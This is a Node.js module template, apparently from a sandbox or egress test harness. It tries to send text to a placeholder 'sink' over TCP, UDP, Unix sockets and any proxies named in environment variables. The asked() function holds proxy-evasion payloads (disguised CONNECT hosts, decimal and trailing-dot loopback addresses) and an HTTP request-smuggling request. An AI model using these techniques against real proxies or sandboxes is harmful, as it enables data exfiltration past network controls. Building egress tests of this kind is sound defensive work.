import { createSocket } from 'node:dgram';
import { connect } from 'node:net';

const sink = Number('@SINK_PORT@');
const hosts = ['127.0.0.1', '::1', '@SINK_HOST@'];

/** Straight, and through whatever proxy an install is given, by every trick that proxies fall for. */
export async function send(text) {
  const body = `POST / HTTP/1.1\r\nhost: sink\r\ncontent-length: ${Buffer.byteLength(text)}\r\n\r\n${text}`;
  const straight = [...hosts.map((host) => ({ host, port: sink })), { path: '@SINK_SOCKET@' }, { path: '\0@SINK_ABSTRACT@' }];
  const ways = straight.map((way) => say(way, body));
  for (const host of hosts) {
    const socket = createSocket(host.includes(':') ? 'udp6' : 'udp4').on('error', () => {});
    ways.push(new Promise((done) => socket.send(text.slice(0, 1000), Number('@SINK_UDP@'), host, () => socket.close(done))));
  }
  for (const proxy of proxies()) for (const words of asked(text, body)) ways.push(say(proxy, words));
  await Promise.race([Promise.all(ways), new Promise((done) => setTimeout(done, 3000))]);
}

function asked(text, body) {
  const registry = process.env.npm_config_registry ?? 'https://registry.npmjs.org/';
  const { hostname, host } = new URL(registry);
  const places = hosts.map((one) => (one.includes(':') ? `[${one}]:${sink}` : `${one}:${sink}`));
  const odd = [`${hostname}@127.0.0.1:${sink}`, `127.0.0.1:${sink}#${hostname}:443`, `2130706433:${sink}`, `localhost.:${sink}`, `0:${sink}`];
  const tunnels = [...places, ...odd].map((place) => `CONNECT ${place} HTTP/1.1\r\nhost: ${host}\r\n\r\n${body}`);
  const urls = places.map((place) => `POST http://${place}/ HTTP/1.1\r\nhost: ${host}\r\ncontent-length: ${Buffer.byteLength(text)}\r\n\r\n${text}`);
  const smuggled = `GET http://${host}/ HTTP/1.1\r\nhost: ${host}\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${tunnels[0]}`;
  return [...tunnels, ...urls, smuggled, `CONNECT @MARK@.example.org:443 HTTP/1.1\r\nhost: @MARK@\r\n\r\n`];
}

function proxies() {
  const urls = Object.keys(process.env).flatMap((name) => (/proxy$/i.test(name) ? [process.env[name]] : []));
  return [...new Set(urls)].flatMap((url) => (URL.canParse(url) ? [{ host: new URL(url).hostname, port: Number(new URL(url).port || 80) }] : []));
}

function say(way, text) {
  return new Promise((done) => {
    const socket = connect(way, () => socket.end(text)).on('error', done).on('close', done).on('data', () => {});
    setTimeout(() => done(socket.destroy()), 2000).unref();
  });
}
